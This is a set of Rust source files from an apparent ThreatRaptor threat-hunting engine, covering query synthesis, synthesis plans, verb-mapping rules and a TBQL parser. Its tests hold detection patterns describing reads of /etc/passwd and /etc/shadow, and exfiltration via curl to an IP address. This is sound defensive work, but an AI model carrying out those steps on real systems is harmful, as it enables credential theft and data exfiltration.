