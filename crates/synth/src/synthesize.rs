//! The synthesis driver: screened graph → TBQL query.

use crate::plan::{DefaultPlan, EdgeShape, SynthesisPlan};
use crate::rules::{map_relation, ObjectClass};
use crate::screen::screen;
use std::collections::HashMap;
use std::fmt;
use threatraptor_nlp::graph::ThreatBehaviorGraph;
use threatraptor_nlp::ioc::IocType;
use threatraptor_tbql::ast::{EntityType, Query};
use threatraptor_tbql::builder::QueryBuilder;

/// Synthesis failures.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SynthesisError {
    /// The behavior graph has no edges at all.
    EmptyGraph,
    /// Screening removed every edge (nothing auditable remains).
    NoAuditableBehavior,
}

impl fmt::Display for SynthesisError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SynthesisError::EmptyGraph => {
                f.write_str("threat behavior graph has no relations to synthesize")
            }
            SynthesisError::NoAuditableBehavior => f.write_str(
                "no auditable behavior: every IOC relation was screened out \
                 (hashes, domains, CVEs … are not captured by system auditing)",
            ),
        }
    }
}

impl std::error::Error for SynthesisError {}

/// Synthesizes a TBQL query with the default plan.
pub fn synthesize(graph: &ThreatBehaviorGraph) -> Result<Query, SynthesisError> {
    synthesize_with_plan(graph, &DefaultPlan)
}

/// Synthesizes a TBQL query with a custom plan.
pub fn synthesize_with_plan(
    graph: &ThreatBehaviorGraph,
    plan: &dyn SynthesisPlan,
) -> Result<Query, SynthesisError> {
    if graph.edge_count() == 0 {
        return Err(SynthesisError::EmptyGraph);
    }
    let screened = screen(graph);
    if screened.edge_count() == 0 {
        return Err(SynthesisError::NoAuditableBehavior);
    }

    // Entity id assignment, per (node, role): the same IOC can act as a
    // process (subject role) and as a file (object role) — e.g. a dropped
    // binary that later runs.
    let mut proc_ids: HashMap<usize, String> = HashMap::new();
    let mut file_ids: HashMap<usize, String> = HashMap::new();
    let mut ip_ids: HashMap<(usize, usize), String> = HashMap::new();
    let mut order: Vec<String> = Vec::new(); // return-clause order

    let mut builder = QueryBuilder::new();
    let mut pattern_names: Vec<String> = Vec::new();

    // Edges in sequence order. Distinct relation verbs can map to the
    // same operation (`compress` and `read` both become `read`); keep the
    // first pattern per (subject, operations, object) triple.
    let mut edges: Vec<&threatraptor_nlp::graph::BehaviorEdge> = screened.edges.iter().collect();
    edges.sort_by_key(|e| e.seq);
    let mut seen_patterns: std::collections::HashSet<(usize, Vec<&'static str>, usize)> =
        std::collections::HashSet::new();

    let mut i = 0usize;
    for edge in edges.iter() {
        let src = &screened.nodes[edge.src];
        let dst = &screened.nodes[edge.dst];
        let class = ObjectClass::of(dst.ty).expect("screened nodes are auditable");
        let mapping = map_relation(&edge.verb, class);
        if !seen_patterns.insert((edge.src, mapping.ops.clone(), edge.dst)) {
            continue;
        }

        // Subject: always a proc entity.
        let fresh_subj = !proc_ids.contains_key(&edge.src);
        if fresh_subj {
            let id = format!("p{}", proc_ids.len() + 1);
            order.push(id.clone());
            proc_ids.insert(edge.src, id);
        }
        let subj_id = proc_ids[&edge.src].clone();
        let subj_filter = if fresh_subj {
            Some(proc_filter(&src.text))
        } else {
            None
        };

        // Object: file or ip entity.
        let (obj_id, fresh_obj, obj_ty, obj_filter_text) = match class {
            ObjectClass::File => {
                let fresh = !file_ids.contains_key(&edge.dst);
                if fresh {
                    let id = format!("f{}", file_ids.len() + 1);
                    order.push(id.clone());
                    file_ids.insert(edge.dst, id);
                }
                (
                    file_ids[&edge.dst].clone(),
                    fresh,
                    EntityType::File,
                    file_filter(&dst.text),
                )
            }
            ObjectClass::Net => {
                // Connections are ephemeral per-flow entities: the same
                // C2 *address* across two steps almost never means the
                // same *connection*, so every network mention gets a
                // fresh entity variable with the address filter repeated
                // (entity-ID reuse would demand one shared connection).
                let n = ip_ids.len() + 1;
                let id = format!("i{n}");
                ip_ids.insert((edge.dst, n), id.clone());
                order.push(id.clone());
                (id, true, EntityType::Ip, ip_filter(&dst.text, dst.ty))
            }
        };
        let obj_filter = if fresh_obj {
            Some(obj_filter_text)
        } else {
            None
        };

        i += 1;
        let name = format!("evt{i}");
        let window = plan.window();
        match plan.shape(edge, &mapping.ops) {
            EdgeShape::Event(ops) => {
                let subj_spec = (
                    subj_id.as_str(),
                    fresh_subj.then_some(EntityType::Proc),
                    subj_filter.as_deref(),
                );
                let obj_spec = (
                    obj_id.as_str(),
                    fresh_obj.then_some(obj_ty),
                    obj_filter.as_deref(),
                );
                builder = match window {
                    Some(w) => builder.event_windowed(subj_spec, &ops, obj_spec, Some(&name), w),
                    None => builder.event(subj_spec, &ops, obj_spec, Some(&name)),
                };
            }
            EdgeShape::Path { min, max, last_op } => {
                let subj_spec = (
                    subj_id.as_str(),
                    fresh_subj.then_some(EntityType::Proc),
                    subj_filter.as_deref(),
                );
                let obj_spec = (
                    obj_id.as_str(),
                    fresh_obj.then_some(obj_ty),
                    obj_filter.as_deref(),
                );
                builder = builder.path(subj_spec, Some((min, max)), last_op, obj_spec, Some(&name));
            }
        }
        pattern_names.push(name);
    }

    // Temporal chain by sequence order.
    if plan.temporal_chain() {
        for w in pattern_names.windows(2) {
            builder = builder.before(&w[0], &w[1]);
        }
    }

    // Return clause: all entity ids, first-use order.
    let refs: Vec<&str> = order.iter().map(String::as_str).collect();
    Ok(builder.return_entities(true, &refs).build())
}

/// Subject filter: substring match on the executable path.
fn proc_filter(text: &str) -> String {
    format!("%{text}%")
}

/// File filter: substring match on the path (bare file names match any
/// directory).
fn file_filter(text: &str) -> String {
    format!("%{text}%")
}

/// IP filter: exact IP; subnets become prefix patterns on octet
/// boundaries (/32 exact, /24 `a.b.c.%`, /16 `a.b.%`, /8 `a.%`).
fn ip_filter(text: &str, ty: IocType) -> String {
    if ty == IocType::Ip {
        return text.to_string();
    }
    let Some((ip, mask)) = text.split_once('/') else {
        return text.to_string();
    };
    let octets: Vec<&str> = ip.split('.').collect();
    match (mask, octets.as_slice()) {
        ("32", _) => ip.to_string(),
        ("24", [a, b, c, _]) => format!("{a}.{b}.{c}.%"),
        ("16", [a, b, _, _]) => format!("{a}.{b}.%"),
        ("8", [a, _, _, _]) => format!("{a}.%"),
        _ => ip.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::{PathPatternPlan, TimeWindowPlan};
    use threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;
    use threatraptor_nlp::ThreatExtractor;
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::ast::{Pattern, TimeWindow};
    use threatraptor_tbql::printer::print_query;

    fn fig2_graph() -> ThreatBehaviorGraph {
        ThreatExtractor::new().extract(FIG2_OSCTI_TEXT).graph
    }

    #[test]
    fn fig2_synthesis_contains_the_eight_patterns() {
        let q = synthesize(&fig2_graph()).expect("synthesizes");
        let a = analyze(&q).expect("synthesized query analyzes cleanly");
        let text = print_query(&q);

        // The Fig. 2 query, pattern for pattern (entity reuses print
        // bare, without the type keyword or filter).
        for needle in [
            r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1"#,
            r#"p1 write file f2["%/tmp/upload.tar%"] as evt2"#,
            r#"proc p2["%/bin/bzip2%"] read f2 as evt3"#,
            r#"p2 write file f3["%/tmp/upload.tar.bz2%"] as evt4"#,
            r#"proc p3["%/usr/bin/gpg%"] read f3 as evt5"#,
            r#"p3 write file f4["%/tmp/upload%"] as evt6"#,
            r#"proc p4["%/usr/bin/curl%"] read f4 as evt7"#,
            r#"p4 connect ip i1["192.168.29.128"] as evt8"#,
        ] {
            assert!(text.contains(needle), "missing `{needle}` in:\n{text}");
        }
        assert_eq!(q.pattern_count(), 8, "exactly the Fig. 2 patterns:\n{text}");
        assert!(text.contains(
            "with evt1 before evt2, evt2 before evt3, evt3 before evt4, \
             evt4 before evt5, evt5 before evt6, evt6 before evt7, evt7 before evt8"
        ));
        // Return clause order matches Fig. 2 exactly.
        assert!(text.contains("return distinct p1, f1, f2, p2, f3, p3, f4, p4, i1"));
        assert!(a.distinct);
        assert_eq!(a.before.len(), 7);
    }

    #[test]
    fn screening_failure_reported() {
        let result = ThreatExtractor::new().extract(
            "The sample beacons to update.evil-cdn.net and then resolves cdn.evil-cdn.net.",
        );
        let err = synthesize(&result.graph).unwrap_err();
        assert!(matches!(
            err,
            SynthesisError::NoAuditableBehavior | SynthesisError::EmptyGraph
        ));
        let empty = ThreatBehaviorGraph::default();
        assert_eq!(synthesize(&empty).unwrap_err(), SynthesisError::EmptyGraph);
    }

    #[test]
    fn shared_entities_reuse_ids_without_filters() {
        let q = synthesize(&fig2_graph()).unwrap();
        // f2 appears twice; the second mention must be bare (no filter).
        let mut f2_mentions = 0;
        for p in &q.patterns {
            let Pattern::Event(e) = p else { continue };
            if e.object.id == "f2" {
                f2_mentions += 1;
                if f2_mentions == 2 {
                    assert!(e.object.filter.is_none());
                    assert!(e.object.ty.is_none());
                }
            }
        }
        assert!(f2_mentions >= 2);
    }

    #[test]
    fn path_plan_produces_path_patterns() {
        let q = synthesize_with_plan(
            &fig2_graph(),
            &PathPatternPlan {
                min_hops: 1,
                max_hops: 3,
            },
        )
        .unwrap();
        assert!(q.patterns.iter().all(|p| matches!(p, Pattern::Path(_))));
        assert!(q.temporal.is_empty());
        let text = print_query(&q);
        assert!(text.contains("~>(1~3)[read]"), "{text}");
        analyze(&q).expect("path query analyzes");
    }

    #[test]
    fn window_plan_stamps_every_pattern() {
        let q = synthesize_with_plan(
            &fig2_graph(),
            &TimeWindowPlan {
                window: TimeWindow { lo: 0, hi: 10_000 },
            },
        )
        .unwrap();
        for p in &q.patterns {
            let Pattern::Event(e) = p else { panic!() };
            assert_eq!(e.window, Some(TimeWindow { lo: 0, hi: 10_000 }));
        }
        analyze(&q).expect("windowed query analyzes");
    }

    #[test]
    fn ip_subnet_filters() {
        assert_eq!(ip_filter("10.0.0.1", IocType::Ip), "10.0.0.1");
        assert_eq!(
            ip_filter("192.168.29.128/32", IocType::IpSubnet),
            "192.168.29.128"
        );
        assert_eq!(ip_filter("10.1.2.0/24", IocType::IpSubnet), "10.1.2.%");
        assert_eq!(ip_filter("10.1.0.0/16", IocType::IpSubnet), "10.1.%");
        assert_eq!(ip_filter("10.0.0.0/8", IocType::IpSubnet), "10.%");
        assert_eq!(ip_filter("10.1.2.0/28", IocType::IpSubnet), "10.1.2.0");
    }

    #[test]
    fn dropped_binary_gets_both_roles() {
        let text = "The attacker used /usr/bin/wget to download /tmp/cracker. \
                    Then /tmp/cracker read /etc/shadow.";
        let g = ThreatExtractor::new().extract(text).graph;
        let q = synthesize(&g).unwrap();
        let printed = print_query(&q);
        // /tmp/cracker appears as a file object AND as a proc subject.
        assert!(
            printed.contains(r#"file f1["%/tmp/cracker%"]"#),
            "{printed}"
        );
        assert!(
            printed.contains(r#"proc p2["%/tmp/cracker%"]"#),
            "{printed}"
        );
        analyze(&q).expect("dual-role query analyzes");
    }
}
