//! Synthesis plans: the default event-pattern plan plus user-defined
//! variants (paper: "In addition to the default synthesis plan,
//! ThreatRaptor supports user-defined plans to synthesize other patterns
//! (e.g., path patterns) and attributes (e.g., time window)").

use threatraptor_nlp::graph::BehaviorEdge;
use threatraptor_tbql::ast::TimeWindow;

/// How one behavior edge should materialize in TBQL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EdgeShape {
    /// A single event pattern with these operation alternatives.
    Event(Vec<&'static str>),
    /// A variable-length path pattern `~>(min~max)[last_op]`.
    Path {
        /// Minimum hops.
        min: u32,
        /// Maximum hops.
        max: u32,
        /// Final-hop operation.
        last_op: &'static str,
    },
}

/// A synthesis plan decides the shape of each edge and global attributes.
pub trait SynthesisPlan {
    /// Shape for one edge, given the operations the rule table mapped it
    /// to.
    fn shape(&self, edge: &BehaviorEdge, mapped_ops: &[&'static str]) -> EdgeShape;

    /// Optional time window stamped on every synthesized pattern.
    fn window(&self) -> Option<TimeWindow> {
        None
    }

    /// Whether to chain `before` constraints between consecutive
    /// patterns (by sequence number).
    fn temporal_chain(&self) -> bool {
        true
    }
}

/// The paper's default plan: every edge becomes one event pattern;
/// consecutive patterns are chained with `before`.
#[derive(Debug, Clone, Copy, Default)]
pub struct DefaultPlan;

impl SynthesisPlan for DefaultPlan {
    fn shape(&self, _edge: &BehaviorEdge, mapped_ops: &[&'static str]) -> EdgeShape {
        EdgeShape::Event(mapped_ops.to_vec())
    }
}

/// User-defined plan: edges become variable-length path patterns — for
/// reports that elide intermediate processes ("this happens often when
/// intermediate processes are forked to chain system events, but are
/// omitted in the OSCTI text by the human writer", §II-D).
#[derive(Debug, Clone, Copy)]
pub struct PathPatternPlan {
    /// Minimum hops per edge.
    pub min_hops: u32,
    /// Maximum hops per edge.
    pub max_hops: u32,
}

impl Default for PathPatternPlan {
    fn default() -> Self {
        PathPatternPlan {
            min_hops: 1,
            max_hops: 3,
        }
    }
}

impl SynthesisPlan for PathPatternPlan {
    fn shape(&self, _edge: &BehaviorEdge, mapped_ops: &[&'static str]) -> EdgeShape {
        EdgeShape::Path {
            min: self.min_hops,
            max: self.max_hops,
            last_op: mapped_ops.first().copied().unwrap_or("read"),
        }
    }

    // Temporal ordering over path patterns is not enforced by the
    // default engine semantics; the path search itself is time-monotone.
    fn temporal_chain(&self) -> bool {
        false
    }
}

/// User-defined plan: the default shapes plus a time window on every
/// pattern (constraining the hunt to a known incident interval).
#[derive(Debug, Clone, Copy)]
pub struct TimeWindowPlan {
    /// The window applied to every pattern.
    pub window: TimeWindow,
}

impl SynthesisPlan for TimeWindowPlan {
    fn shape(&self, _edge: &BehaviorEdge, mapped_ops: &[&'static str]) -> EdgeShape {
        EdgeShape::Event(mapped_ops.to_vec())
    }

    fn window(&self) -> Option<TimeWindow> {
        Some(self.window)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn edge() -> BehaviorEdge {
        BehaviorEdge {
            src: 0,
            dst: 1,
            verb: "read".into(),
            seq: 1,
        }
    }

    #[test]
    fn default_plan_emits_events() {
        let plan = DefaultPlan;
        assert_eq!(
            plan.shape(&edge(), &["read"]),
            EdgeShape::Event(vec!["read"])
        );
        assert!(plan.temporal_chain());
        assert!(plan.window().is_none());
    }

    #[test]
    fn path_plan_emits_paths() {
        let plan = PathPatternPlan {
            min_hops: 2,
            max_hops: 4,
        };
        assert_eq!(
            plan.shape(&edge(), &["read", "write"]),
            EdgeShape::Path {
                min: 2,
                max: 4,
                last_op: "read"
            }
        );
        assert!(!plan.temporal_chain());
    }

    #[test]
    fn window_plan_stamps_windows() {
        let plan = TimeWindowPlan {
            window: TimeWindow { lo: 10, hi: 20 },
        };
        assert_eq!(plan.window(), Some(TimeWindow { lo: 10, hi: 20 }));
        assert!(plan.temporal_chain());
    }
}
