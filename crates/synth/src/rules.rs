//! Relation → operation mapping rules (paper §II-E).
//!
//! "For each remaining edge, ThreatRaptor maps its associated IOC
//! relation to the TBQL operation type using a set of rules (e.g., the
//! 'download' relation between two 'Filepath' IOCs will be mapped to the
//! 'write' operation in TBQL, indicating a process writes data to a
//! file)."
//!
//! The mapping is keyed by `(relation lemma, object IOC class)`. The
//! subject of a behavior edge always becomes a `proc` entity (the program
//! launched from the subject IOC); the object class decides between file
//! and network operations. Where a relation is genuinely ambiguous at the
//! system level, the mapping produces operation *alternatives*, which
//! TBQL expresses natively (`connect || send`).

use threatraptor_nlp::ioc::IocType;

/// Object-side IOC classes after screening.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ObjectClass {
    /// File-like IOC (path or bare name).
    File,
    /// Network-like IOC (IP or subnet).
    Net,
}

impl ObjectClass {
    /// Classifies an auditable IOC type.
    pub fn of(ty: IocType) -> Option<ObjectClass> {
        match ty {
            IocType::FilePath | IocType::FileName => Some(ObjectClass::File),
            IocType::Ip | IocType::IpSubnet => Some(ObjectClass::Net),
            _ => None,
        }
    }
}

/// Result of mapping one relation verb.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpMapping {
    /// TBQL operation alternatives (joined with `||`).
    pub ops: Vec<&'static str>,
    /// True when no specific rule matched and the class default was used.
    pub fallback: bool,
}

/// Maps a relation verb lemma and object class to TBQL operations.
pub fn map_relation(verb: &str, class: ObjectClass) -> OpMapping {
    let ops: Option<Vec<&'static str>> = match class {
        ObjectClass::File => match verb {
            // Direct reads: the process consumes the named file.
            "read" | "open" | "access" | "scan" | "load" | "collect" | "gather" | "harvest"
            | "steal" | "leak" | "exfiltrate" | "dump" | "crack" | "query" => Some(vec!["read"]),
            // Transformations name their *input* file in prose.
            "compress" | "encrypt" | "decrypt" | "archive" | "pack" | "unpack" | "extract"
            | "parse" => Some(vec!["read"]),
            // Writes: the process produces the named file.
            "write" | "create" | "drop" | "save" | "store" | "append" | "log" | "modify"
            | "overwrite" | "copy" => Some(vec!["write"]),
            // Network-to-disk transfers materialize as writes (the
            // paper's canonical example).
            "download" | "fetch" | "retrieve" | "receive" | "request" => Some(vec!["write"]),
            // Disk-to-network transfers read the file.
            "upload" | "send" | "transfer" | "post" => Some(vec!["read"]),
            "execute" | "run" | "launch" | "spawn" | "start" | "invoke" | "install" => {
                Some(vec!["execute"])
            }
            "delete" | "remove" => Some(vec!["unlink"]),
            "rename" | "move" => Some(vec!["rename"]),
            "persist" | "register" => Some(vec!["write"]),
            "inject" => Some(vec!["write"]),
            _ => None,
        },
        ObjectClass::Net => match verb {
            "connect" | "communicate" | "beacon" | "contact" | "resolve" | "access" | "scan" => {
                Some(vec!["connect"])
            }
            // Outbound data movement: the connect is the reliable
            // observable; sends follow it.
            "send" | "post" | "upload" | "transfer" | "exfiltrate" | "leak" | "write" => {
                Some(vec!["connect", "send"])
            }
            // Inbound data movement.
            "download" | "fetch" | "retrieve" | "receive" | "read" | "request" | "query" => {
                Some(vec!["connect", "recv"])
            }
            _ => None,
        },
    };
    match ops {
        Some(ops) => OpMapping {
            ops,
            fallback: false,
        },
        None => OpMapping {
            ops: match class {
                ObjectClass::File => vec!["read", "write"],
                ObjectClass::Net => vec!["connect"],
            },
            fallback: true,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn object_classes() {
        assert_eq!(ObjectClass::of(IocType::FilePath), Some(ObjectClass::File));
        assert_eq!(ObjectClass::of(IocType::FileName), Some(ObjectClass::File));
        assert_eq!(ObjectClass::of(IocType::Ip), Some(ObjectClass::Net));
        assert_eq!(ObjectClass::of(IocType::IpSubnet), Some(ObjectClass::Net));
        assert_eq!(ObjectClass::of(IocType::Md5), None);
    }

    #[test]
    fn fig2_verbs_map_exactly() {
        assert_eq!(map_relation("read", ObjectClass::File).ops, vec!["read"]);
        assert_eq!(map_relation("write", ObjectClass::File).ops, vec!["write"]);
        assert_eq!(
            map_relation("connect", ObjectClass::Net).ops,
            vec!["connect"]
        );
    }

    #[test]
    fn paper_download_example() {
        let m = map_relation("download", ObjectClass::File);
        assert_eq!(m.ops, vec!["write"]);
        assert!(!m.fallback);
    }

    #[test]
    fn transformations_read_their_input() {
        assert_eq!(
            map_relation("compress", ObjectClass::File).ops,
            vec!["read"]
        );
        assert_eq!(map_relation("encrypt", ObjectClass::File).ops, vec!["read"]);
    }

    #[test]
    fn execution_verbs() {
        for v in ["execute", "run", "launch"] {
            assert_eq!(map_relation(v, ObjectClass::File).ops, vec!["execute"]);
        }
    }

    #[test]
    fn net_alternatives() {
        assert_eq!(
            map_relation("exfiltrate", ObjectClass::Net).ops,
            vec!["connect", "send"]
        );
        assert_eq!(
            map_relation("download", ObjectClass::Net).ops,
            vec!["connect", "recv"]
        );
    }

    #[test]
    fn fallbacks_are_marked() {
        let m = map_relation("obfuscate", ObjectClass::File);
        assert!(m.fallback);
        assert_eq!(m.ops, vec!["read", "write"]);
        let m = map_relation("obfuscate", ObjectClass::Net);
        assert!(m.fallback);
        assert_eq!(m.ops, vec!["connect"]);
    }
}
