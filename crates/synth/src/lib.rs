//! # threatraptor-synth
//!
//! TBQL query synthesis from threat behavior graphs (paper §II-E).
//!
//! "The synthesis starts with a screening to filter out nodes (and
//! connected edges) in the threat behavior graph whose associated IOC
//! types are not currently captured by the system auditing component.
//! Then, for each remaining edge, ThreatRaptor maps its associated IOC
//! relation to the TBQL operation type using a set of rules … Next,
//! ThreatRaptor synthesizes the subject/object entity from the
//! source/sink node, and synthesizes an event pattern by connecting the
//! entities with the operation. ThreatRaptor then synthesizes the
//! temporal relationships of the event patterns in the `with` clause
//! based on the sequence numbers of the corresponding edges. Finally,
//! ThreatRaptor synthesizes the `return` clause by appending all entity
//! IDs. In addition to the default synthesis plan, ThreatRaptor supports
//! user-defined plans to synthesize other patterns (e.g., path patterns)
//! and attributes (e.g., time window)."

pub mod plan;
pub mod rules;
pub mod screen;
pub mod synthesize;

pub use plan::{DefaultPlan, PathPatternPlan, SynthesisPlan, TimeWindowPlan};
pub use rules::{map_relation, OpMapping};
pub use screen::screen;
pub use synthesize::{synthesize, synthesize_with_plan, SynthesisError};
