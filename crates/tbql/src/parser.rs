//! Recursive-descent parser for TBQL.

use crate::ast::*;
use crate::error::{Span, TbqlError};
use crate::lexer::{lex, SpannedTok, Tok};

/// Reserved words that cannot name entities or patterns.
pub const KEYWORDS: &[&str] = &[
    "proc", "file", "ip", "as", "with", "before", "after", "return", "distinct", "window", "like",
];

/// Parses a TBQL query.
pub fn parse_query(src: &str) -> Result<Query, TbqlError> {
    let toks = lex(src)?;
    let mut p = Parser { toks, pos: 0 };
    let q = p.query()?;
    Ok(q)
}

struct Parser {
    toks: Vec<SpannedTok>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &Tok {
        &self.toks[self.pos].tok
    }

    fn peek_span(&self) -> Span {
        self.toks[self.pos].span
    }

    fn bump(&mut self) -> SpannedTok {
        let t = self.toks[self.pos].clone();
        if self.pos + 1 < self.toks.len() {
            self.pos += 1;
        }
        t
    }

    fn err(&self, message: impl Into<String>) -> TbqlError {
        TbqlError::new(self.peek_span(), message)
    }

    fn expect(&mut self, tok: Tok) -> Result<Span, TbqlError> {
        if *self.peek() == tok {
            Ok(self.bump().span)
        } else {
            Err(self.err(format!("expected {tok}, found {}", self.peek())))
        }
    }

    fn peek_ident(&self) -> Option<&str> {
        match self.peek() {
            Tok::Ident(s) => Some(s.as_str()),
            _ => None,
        }
    }

    fn ident(&mut self, what: &str) -> Result<(String, Span), TbqlError> {
        match self.peek().clone() {
            Tok::Ident(s) => {
                let span = self.bump().span;
                Ok((s, span))
            }
            other => Err(self.err(format!("expected {what}, found {other}"))),
        }
    }

    fn name(&mut self, what: &str) -> Result<(String, Span), TbqlError> {
        let (s, span) = self.ident(what)?;
        if KEYWORDS.contains(&s.as_str()) {
            return Err(TbqlError::new(
                span,
                format!("`{s}` is a reserved keyword and cannot be used as {what}"),
            ));
        }
        Ok((s, span))
    }

    fn query(&mut self) -> Result<Query, TbqlError> {
        let mut patterns = Vec::new();
        loop {
            match self.peek_ident() {
                Some("with") | Some("return") | None => break,
                Some(_) => patterns.push(self.pattern()?),
            }
            if matches!(self.peek(), Tok::Eof) {
                break;
            }
        }
        if patterns.is_empty() {
            return Err(self.err("a query needs at least one event or path pattern"));
        }
        let mut temporal = Vec::new();
        if self.peek_ident() == Some("with") {
            self.bump();
            loop {
                temporal.push(self.temporal_constraint()?);
                if *self.peek() == Tok::Comma {
                    self.bump();
                } else {
                    break;
                }
            }
        }
        let ret = self.return_clause()?;
        self.expect(Tok::Eof)?;
        Ok(Query {
            patterns,
            temporal,
            ret,
        })
    }

    fn pattern(&mut self) -> Result<Pattern, TbqlError> {
        let start = self.peek_span();
        let subject = self.entity()?;
        if *self.peek() == Tok::PathArrow {
            self.bump();
            // Optional (min~max).
            let (min_hops, max_hops) = if *self.peek() == Tok::LParen {
                self.bump();
                let min = self.int("minimum path length")?;
                self.expect(Tok::Tilde)?;
                let max = self.int("maximum path length")?;
                self.expect(Tok::RParen)?;
                (Some(min as u32), Some(max as u32))
            } else {
                (None, None)
            };
            self.expect(Tok::LBracket)?;
            let (last_op, op_span) = self.ident("an operation")?;
            if operation_object_type(&last_op).is_none() {
                return Err(TbqlError::new(
                    op_span,
                    format!("unknown operation `{last_op}`"),
                ));
            }
            self.expect(Tok::RBracket)?;
            let object = self.entity()?;
            let id = self.opt_as()?;
            let window = self.opt_window()?;
            let span = start.merge(object.span);
            Ok(Pattern::Path(PathPattern {
                id,
                subject,
                min_hops,
                max_hops,
                last_op,
                object,
                window,
                span,
            }))
        } else {
            let ops = self.op_expr()?;
            let object = self.entity()?;
            let id = self.opt_as()?;
            let window = self.opt_window()?;
            let span = start.merge(object.span);
            Ok(Pattern::Event(EventPattern {
                id,
                subject,
                ops,
                object,
                window,
                span,
            }))
        }
    }

    fn int(&mut self, what: &str) -> Result<i64, TbqlError> {
        match *self.peek() {
            Tok::Int(v) => {
                self.bump();
                Ok(v)
            }
            _ => Err(self.err(format!("expected {what}, found {}", self.peek()))),
        }
    }

    fn opt_as(&mut self) -> Result<Option<String>, TbqlError> {
        if self.peek_ident() == Some("as") {
            self.bump();
            let (name, _) = self.name("a pattern name")?;
            Ok(Some(name))
        } else {
            Ok(None)
        }
    }

    fn opt_window(&mut self) -> Result<Option<TimeWindow>, TbqlError> {
        if self.peek_ident() == Some("window") {
            self.bump();
            self.expect(Tok::LBracket)?;
            let lo = self.int("window start")?;
            self.expect(Tok::Comma)?;
            let hi = self.int("window end")?;
            let span = self.expect(Tok::RBracket)?;
            // Negative bounds are a domain error here; an *empty* window
            // (lo > hi) parses fine and is rejected by the lint pass's
            // DBM with a stable diagnostic code (E001).
            if lo < 0 || hi < 0 {
                return Err(TbqlError::new(span, format!("invalid window [{lo}, {hi}]")));
            }
            Ok(Some(TimeWindow {
                lo: lo as u64,
                hi: hi as u64,
            }))
        } else {
            Ok(None)
        }
    }

    fn op_expr(&mut self) -> Result<Vec<String>, TbqlError> {
        let mut ops = Vec::new();
        loop {
            let (op, span) = self.ident("an operation")?;
            if operation_object_type(&op).is_none() {
                return Err(TbqlError::new(span, format!("unknown operation `{op}`")));
            }
            ops.push(op);
            if *self.peek() == Tok::OrOr {
                self.bump();
            } else {
                break;
            }
        }
        Ok(ops)
    }

    fn entity(&mut self) -> Result<EntityRef, TbqlError> {
        let start = self.peek_span();
        let ty = match self.peek_ident() {
            Some("proc") => {
                self.bump();
                Some(EntityType::Proc)
            }
            Some("file") => {
                self.bump();
                Some(EntityType::File)
            }
            Some("ip") => {
                self.bump();
                Some(EntityType::Ip)
            }
            _ => None,
        };
        let (id, id_span) = self.name("an entity identifier")?;
        let filter = if *self.peek() == Tok::LBracket {
            Some(self.filter()?)
        } else {
            None
        };
        Ok(EntityRef {
            ty,
            id,
            filter,
            span: start.merge(id_span),
        })
    }

    fn filter(&mut self) -> Result<Filter, TbqlError> {
        self.expect(Tok::LBracket)?;
        let f = match self.peek().clone() {
            Tok::Str(s) => {
                self.bump();
                Filter::Default(s)
            }
            _ => Filter::Expr(self.expr()?),
        };
        self.expect(Tok::RBracket)?;
        Ok(f)
    }

    fn expr(&mut self) -> Result<Expr, TbqlError> {
        let mut legs = vec![self.and_expr()?];
        while *self.peek() == Tok::OrOr {
            self.bump();
            legs.push(self.and_expr()?);
        }
        Ok(if legs.len() == 1 {
            legs.pop().expect("len checked")
        } else {
            Expr::Or(legs)
        })
    }

    fn and_expr(&mut self) -> Result<Expr, TbqlError> {
        let mut legs = vec![self.cmp_expr()?];
        while *self.peek() == Tok::AndAnd {
            self.bump();
            legs.push(self.cmp_expr()?);
        }
        Ok(if legs.len() == 1 {
            legs.pop().expect("len checked")
        } else {
            Expr::And(legs)
        })
    }

    fn cmp_expr(&mut self) -> Result<Expr, TbqlError> {
        if *self.peek() == Tok::LParen {
            self.bump();
            let e = self.expr()?;
            self.expect(Tok::RParen)?;
            return Ok(e);
        }
        let (attr, _) = self.ident("an attribute name")?;
        let op = match self.peek() {
            Tok::Eq => CmpOp::Eq,
            Tok::Ne => CmpOp::Ne,
            Tok::Lt => CmpOp::Lt,
            Tok::Le => CmpOp::Le,
            Tok::Gt => CmpOp::Gt,
            Tok::Ge => CmpOp::Ge,
            Tok::Ident(s) if s == "like" => CmpOp::Like,
            other => return Err(self.err(format!("expected a comparison operator, found {other}"))),
        };
        self.bump();
        let value = match self.peek().clone() {
            Tok::Str(s) => {
                self.bump();
                Lit::Str(s)
            }
            Tok::Int(v) => {
                self.bump();
                Lit::Int(v)
            }
            other => return Err(self.err(format!("expected a literal, found {other}"))),
        };
        Ok(Expr::Cmp { attr, op, value })
    }

    fn temporal_constraint(&mut self) -> Result<TemporalConstraint, TbqlError> {
        let (left, lspan) = self.name("an event pattern name")?;
        let (rel_word, rel_span) = self.ident("`before` or `after`")?;
        let rel = match rel_word.as_str() {
            "before" => TemporalRel::Before,
            "after" => TemporalRel::After,
            other => {
                return Err(TbqlError::new(
                    rel_span,
                    format!("expected `before` or `after`, found `{other}`"),
                ))
            }
        };
        let (right, rspan) = self.name("an event pattern name")?;
        Ok(TemporalConstraint {
            left,
            rel,
            right,
            span: lspan.merge(rspan),
        })
    }

    fn return_clause(&mut self) -> Result<ReturnClause, TbqlError> {
        if self.peek_ident() != Some("return") {
            return Err(self.err("expected `return` clause"));
        }
        self.bump();
        let distinct = if self.peek_ident() == Some("distinct") {
            self.bump();
            true
        } else {
            false
        };
        let mut items = Vec::new();
        loop {
            let (entity, espan) = self.name("an entity identifier")?;
            let (attr, span) = if *self.peek() == Tok::Dot {
                self.bump();
                let (attr, aspan) = self.ident("an attribute name")?;
                (Some(attr), espan.merge(aspan))
            } else {
                (None, espan)
            };
            items.push(ReturnItem { entity, attr, span });
            if *self.peek() == Tok::Comma {
                self.bump();
            } else {
                break;
            }
        }
        Ok(ReturnClause { distinct, items })
    }
}

